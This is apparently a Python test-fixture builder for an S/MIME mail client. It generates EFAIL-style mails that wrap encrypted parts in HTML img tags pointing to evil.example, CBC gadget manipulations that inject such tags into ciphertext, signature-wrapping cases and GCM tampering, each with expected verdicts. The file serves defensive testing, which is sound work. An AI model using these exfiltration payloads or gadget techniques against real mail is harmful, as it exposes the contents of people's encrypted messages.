"""Encrypted mails that pretend: EFAIL (direct exfiltration, CBC gadgets),
somebody else's ciphertext under one's own name, signatures beside and around
what is encrypted. SECRET is in each ciphertext that is not the attacker's."""
from cms import canonical, compressed
from envelopes import BLOCK, Envelope, other_key
from mails import EVIL, TEXT, encoded, header, multipart_type, body_of
from of_structure import mixed

SECRET = b"The word is Quassia."
MAIL = canonical(
    b"Content-Type: text/html; charset=us-ascii\n\n<html><body>\n"
    + b"<p>Dear Elena, this stands before what nobody else may read.</p>\n" * 6
    + b"<p>" + SECRET + b"</p>\n"
    + b"<p>And this stands behind it, so that there is more of it.</p>\n" * 6
    + b"</body></html>\n")
KIND = ('Content-Type: application/pkcs7-mime; smime-type=%s; '
        'name="smime.p7m"\nContent-Transfer-Encoding: base64\n%s\n')
EVE = header("From: Eve <eve@evil.example>\n")
OPEN = b'Content-Type: text/html\n\n<img src="http://evil.example/?\n'
SHUT = b'Content-Type: text/html\n\n">\n'


def part(der, kind="enveloped-data", more=""):
    return (KIND % (kind, more)).encode() + encoded(der)


def carrying(der, head=None, **more):
    return (head or header()) + part(der, **more)


def rfc822(mail):
    return b"Content-Type: message/rfc822\n\n" + mail


class Chapter:
    """Rows: what `open` ends with, its verdict and one of its reasons; what
    `decrypt` ends with; whether the secret may be shown. Several exit codes
    or verdicts are told apart by |."""

    def __init__(self, corpus, certificate):
        self.c, self.certificate = corpus, certificate
        self.rows = []

    def envelope(self, plain=MAIL, cipher="aes-256-cbc"):
        return Envelope(canonical(plain), self.certificate, cipher)

    def add(self, name, mail, code, verdict, reason, decrypt, shown="-"):
        self.rows.append((name, mail, code, verdict, reason, decrypt, shown))

    def closed(self, name, mail, verdict="plain", code="0",
               reason="part-encrypted", decrypt="9"):
        """Left as it came: no key of Elena's is used for it."""
        self.add("closed-" + name, mail, code, verdict, reason, decrypt,
                 "hidden")

    def gadget(self, name, mail, verdict="plain|-", code="0|6",
               decrypt="0|6"):
        """Whether it can be shown at all is the ciphertext's luck."""
        self.add("cbc-" + name, mail, code, verdict, "not-signed", decrypt)

    def refused(self, name, mail):
        self.add("refused-" + name, mail, "6", "-", "", "6", "hidden")

    def inner(self, name, mail, verdict, reason, code=None, decrypt="0"):
        code = code or ("1" if verdict == "bad" else "0")
        self.add("inner-" + name, mail, code, verdict, reason, decrypt)


def exfiltration(t):
    for cipher, kind in (("aes-256-cbc", "enveloped-data"),
                         ("aes-256-gcm", "authEnveloped-data")):
        der = t.envelope(cipher=cipher).der()
        secret = part(der, kind)
        name = cipher[-3:] + "-"
        for how in ("mixed", "related", "alternative", "parallel", "report",
                    "digest", "encrypted", "unknown"):
            t.closed(name + how, mixed([OPEN, secret, SHUT], how))
        for where, parts in {"first": [secret, OPEN], "alone": [secret],
                             "last": [OPEN, secret],
                             "twice": [OPEN, secret, SHUT, secret]}.items():
            t.closed(name + where, mixed(parts))
        t.closed(name + "alternative-last", mixed([OPEN, secret],
                                                  "alternative"))
        t.closed(name + "related-cid", mixed(
            [b'Content-Type: text/html\n\n<iframe src="cid:x">\n',
             b"Content-ID: <x>\n" + secret], "related"))
        nested = mixed([OPEN, secret, SHUT], boundary="deep", head=b" ")[1:]
        t.closed(name + "nested", mixed([b"\nLook.\n", nested]))
        t.closed(name + "attachment", mixed([b"\nLook.\n", part(
            der, kind, "Content-Disposition: attachment; "
            "filename=smime.p7m\n")]))
        t.closed(name + "octet-stream", mixed([OPEN, secret.replace(
            b"application/pkcs7-mime; smime-type=" + kind.encode(),
            b"application/octet-stream")]))
        t.closed(name + "x-type", mixed([OPEN, secret.replace(
            b"/pkcs7", b"/x-pkcs7")]))
        mail = carrying(der, kind=kind)
        t.closed(name + "forwarded", header() + rfc822(mail))
        t.closed(name + "forwarded-not", header() + rfc822(mail).replace(
            b"rfc822", b"rfc822; forwarded=no", 1))
        t.closed(name + "forwarded-beside", mixed([OPEN, rfc822(mail), SHUT]))
        t.closed(name + "forwarded-twice", header() + rfc822(
            EVE + rfc822(mail)))
        # A signature says who made the trap, and opens nothing either.
        trap = mixed([OPEN, secret, SHUT], head=b" ")[1:]
        t.closed(name + "signed", t.c.detached(
            trap, t.c.world.eve, head=EVE), "good", decrypt="9")
        t.closed(name + "signed-opaque", t.c.opaque(
            trap, t.c.world.eve, head=EVE), "good", decrypt="9")
        t.closed(name + "signed-forwarded", t.c.detached(
            rfc822(mail).replace(b"rfc822", b"rfc822; forwarded=yes", 1),
            t.c.world.eve, head=EVE), "good", decrypt="9")
        t.closed(name + "signed-as-a-whole", t.c.detached(
            rfc822(mail), t.c.world.eve, head=EVE), "bad", "1", "inner-from",
            decrypt="9")
        t.closed(name + "signed-as-max", t.c.detached(trap, t.c.world.eve),
                 "bad", "1", "from-mismatch")
        t.closed(name + "beside-signed", mixed(
            [multipart_type() + body_of(TEXT, t.c.p7s(TEXT)), secret]),
            "partial", reason="part-encrypted")
        t.closed(name + "third-part-of-signed", t.c.detached(
            between=b"", epilogue=b"").replace(
                b"--xbound7Q--\n", b"--xbound7Q\n" + secret
                + b"--xbound7Q--\n"), "bad", "1", "text-outside")
        # Nor does an encryption that the attacker puts around it.
        for outer in ("aes-256-cbc", "aes-256-gcm"):
            t.closed(name + "in-" + outer[-3:], carrying(
                t.envelope(trap, outer).der()), decrypt="0")


def gadgets(t):
    e = t.envelope()
    b = e.blocks()
    half = len(b) // 2
    evil = [b'<img src="http:/', b"/evil.example/?a"]

    def made(blocks):
        return carrying(e.der(b"".join(blocks)))

    t.gadget("swapped", made(b[:8] + [b[9], b[8]] + b[10:]))
    t.gadget("swapped-far", made(b[:8] + [b[half]] + b[9:half] + [b[8]]
                                 + b[half + 1:]))
    t.gadget("twice", made(b[:half] + b[half - 2:]))
    t.gadget("left-out", made(b[:8] + b[10:]))
    t.gadget("zeros-in", made(b[:8] + [b"\0" * BLOCK] + b[8:]))
    t.gadget("bit", made(b[:8] + [bytes([b[8][0] ^ 1]) + b[8][1:]] + b[9:]))
    t.gadget("cut-with-its-end", made(b[:half] + b[-2:]))
    t.gadget("says-evil", made(b[:8] + e.saying(evil[0]) + e.saying(evil[1])
                               + [b[7]] + b[8:]))
    t.gadget("says-evil-first", made(b[:4] + e.saying(evil[0]) + [b[3]]
                                     + b[4:]))
    t.gadget("says-evil-last", made(b[:-2] + e.saying(b'">' + b" " * 14)
                                    + b[-3:]))
    for name, first in {"other-field": b"Subject: hello\r\n",
                        "no-header": b"\r\n\r\n<img src='//",
                        "no-type": b"X-ntent-Type: te"}.items():
        t.gadget("begins-" + name, carrying(e.der(
            iv=bytes(i ^ p ^ f for i, p, f in zip(e.iv, e.plain, first)))))
    t.gadget("other-key", carrying(e.der(recipients=other_key(e.recipients))))
    t.gadget("gcm-called-cbc", carrying(t.envelope(
        cipher="aes-256-gcm").as_cbc()))
    # Around a signature: changed or hidden, it is never good.
    s = t.envelope(t.c.detached(head=b" ")[1:])
    b = s.blocks()
    at = s.plain.index(b"Please") // BLOCK + 1
    t.add("cbc-signed-text", carrying(s.der(b"".join(
        b[:at] + [bytes(16)] + b[at + 1:]))), "0|1|6", "bad|-", "", "0|6")
    t.gadget("signed-hidden", carrying(s.der(
        iv=bytes(i ^ p ^ f for i, p, f in zip(s.iv, s.plain,
                                              b"X-ntent-Type: mu")))))


def refusals(t):
    e = t.envelope()
    last = e.text[:-17] + bytes([e.text[-17] ^ 0x80]) + e.text[-16:]
    t.refused("cbc-padding", carrying(e.der(last)))
    t.refused("cbc-cut", carrying(e.der(e.text[:-3])))
    t.refused("cbc-empty", carrying(e.der(b"")))
    g = t.envelope(cipher="aes-256-gcm")

    def made(**how):
        return carrying(g.der(**how), kind="authEnveloped-data")

    b = g.blocks()
    mac = g.tail[-1]
    parameters = g.algorithm
    at = parameters.index(b"\x04\x0c") + 2
    nonce = parameters[:at] + bytes([parameters[at] ^ 1]) + parameters[at + 1:]
    for name, how in {
            "bit": dict(text=bytes([g.text[0] ^ 1]) + g.text[1:]),
            "last-bit": dict(text=g.text[:-1] + bytes([g.text[-1] ^ 1])),
            "swapped": dict(text=b"".join(b[:4] + [b[5], b[4]] + b[6:])),
            "cut": dict(text=g.text[:-BLOCK]), "empty": dict(text=b""),
            "longer": dict(text=g.text + b"x"),
            "tag": dict(tail=g.tail[:-1] + [mac[:-1]
                                            + bytes([mac[-1] ^ 1])]),
            "tag-zeros": dict(tail=g.tail[:-1] + [mac[:2] + bytes(16)]),
            "nonce": dict(algorithm=nonce),
            "other-key": dict(recipients=other_key(g.recipients))}.items():
        t.refused("gcm-" + name, made(**how))
    # What is wrong inside has the answer of what is wrong outside.
    for name, inner in {"rubbish": b"xx\n", "cut": t.c.opaque(
            head=b" ").split(b"\n\n", 1)[1][:99]}.items():
        t.add("inside-" + name, carrying(t.envelope(
            b"Content-Type: application/pkcs7-mime; smime-type=signed-data\n"
            b"\n" + inner).der()), "6", "-", "", "0", "hidden")


def insides(t):
    w = t.c.world
    signed = multipart_type() + body_of(TEXT, t.c.p7s(TEXT))
    by_eve = multipart_type() + body_of(TEXT, t.c.p7s(TEXT, w.eve))
    html = b"Content-Type: text/html\n\n<p>" + EVIL + b"</p>\n"

    def around(plain, head=None):
        return carrying(t.envelope(plain).der(), head)

    def parts(*of):
        return mixed(of, head=b" ")[1:]

    t.inner("eve-beside-text", around(parts(b"\n" + EVIL, by_eve)),
            "partial", "part-signed")
    t.inner("eve-alone", around(parts(by_eve)), "partial", "part-signed")
    t.inner("max-beside-html", around(parts(html, signed)), "partial",
            "part-signed")
    t.inner("max-forwarded", around(rfc822(t.c.detached())), "plain",
            "attached-signed")
    t.inner("eve-as-max", around(by_eve), "bad", "from-mismatch")
    t.inner("max-under-eve", around(signed, EVE), "bad", "from-mismatch")
    t.inner("boss-inside-signed", around(t.c.detached(
        b"From: boss@example.org\n" + TEXT, head=b" ")[1:]), "bad",
        "inner-from")
    boss = b"From: Boss <boss@example.org>\n"
    t.inner("boss-inside", around(boss + MAIL), "plain", "inner-from")
    t.inner("max-inside-under-eve", around(b"From: max@example.org\n" + MAIL,
                                           EVE), "plain", "inner-from")
    t.inner("boss-wrapped", around(
        b"Content-Type: message/rfc822; forwarded=no\n\n" + boss + TEXT),
        "plain", "inner-from")
    t.inner("cut-signed", around(t.c.detached(head=b" ")[1:400]), "bad",
            "signature-damaged")
    t.inner("plain", around(MAIL), "plain", "not-signed")
    t.inner("plain-under-eve", around(MAIL, EVE), "plain", "not-signed")
    t.inner("signed", around(signed), "good", "")
    # Eve need not know what is in the ciphertext that she signs.
    secret = part(t.envelope().der())
    t.inner("signed-from-outside", t.c.detached(secret, w.eve, head=EVE),
            "good", "signed-outside", decrypt="9")
    t.inner("signed-from-outside-opaque", t.c.opaque(
        secret, w.eve, head=EVE), "good", "signed-outside", decrypt="9")
    # ... nor does who signed inside vouch for what stands behind it.
    whole = t.envelope(signed).der()
    t.inner("signed-html-behind-base64", carrying(whole) + OPEN, "bad",
            "trailing-data")
    for name, more in {"object": whole, "text": EVIL}.items():
        t.inner("signed-der-behind-" + name, carrying(whole + more), "bad",
                "trailing-data")
    for name, (old, new) in {
            "name": (b'name="smime.p7m"', b'name="invoice.pdf"'),
            "type": (b"application/pkcs7-mime; smime-type=enveloped-data",
                     b"application/pdf"),
            "base": (b"MIME-Version:", b"Content-Base: http://evil.example/\n"
                                       b"MIME-Version:")}.items():
        t.inner("signed-carrier-" + name, carrying(whole).replace(old, new),
                "bad", "ambiguous-structure")
    t.inner("signed-zeros-behind", carrying(whole + bytes(9)), "good", "")
    # A signature around the ciphertext is one over what is in it, too.
    pointer = (b"Content-Type: message/external-body; access-type=URL;\n"
               b' URL="http://evil.example/"\n\nContent-Type: text/html\n\n')
    for name, inner in {"": pointer, "-deep": parts(TEXT, pointer)}.items():
        t.inner("elsewhere-signed-from-outside" + name, t.c.detached(part(
            t.envelope(inner).der()), w.eve, head=EVE), "bad",
            "content-elsewhere", decrypt="9")
    t.inner("html-behind-base64", carrying(t.envelope().der()) + OPEN,
            "plain", "not-signed")


def packed(t):
    """CompressedData around, inside and beside what is encrypted."""
    w = t.c.world
    signed = multipart_type() + body_of(TEXT, t.c.p7s(TEXT))
    by_eve = multipart_type() + body_of(TEXT, t.c.p7s(TEXT, w.eve))

    def p7z(plain):
        return (KIND % ("compressed-data", "")).encode() + encoded(
            compressed(canonical(plain)))

    for cipher, kind in (("aes-256-cbc", "enveloped-data"),
                         ("aes-256-gcm", "authEnveloped-data")):
        def secret(plain=MAIL, cipher=cipher, kind=kind):
            return part(t.envelope(plain, cipher).der(), kind)

        name = "packed-" + cipher[-3:] + "-"
        t.inner(name + "around", header() + p7z(secret(signed)), "good", "")
        t.inner(name + "inside", header() + secret(p7z(signed)), "good", "")
        t.inner(name + "inside-eve", header() + secret(p7z(by_eve)), "bad",
                "from-mismatch")
        t.inner(name + "around-eve", header() + p7z(secret(by_eve)), "bad",
                "from-mismatch")
        t.inner(name + "text", header() + p7z(secret()), "plain",
                "not-signed")
        trap = mixed([OPEN, secret(), SHUT], head=b" ")[1:]
        t.closed(name + "trap", header() + p7z(trap), decrypt="9")
        t.closed(name + "trap-signed", t.c.detached(
            p7z(trap), w.eve, head=EVE), "good")
        t.closed(name + "trap-encrypted", header() + secret(p7z(trap)),
                 decrypt="0")
        # Beside something it is an attachment, whatever is in it.
        t.closed(name + "beside", mixed([OPEN, p7z(secret()), SHUT]),
                 reason="not-signed")


def build(t):
    exfiltration(t)
    gadgets(t)
    refusals(t)
    insides(t)
    packed(t)
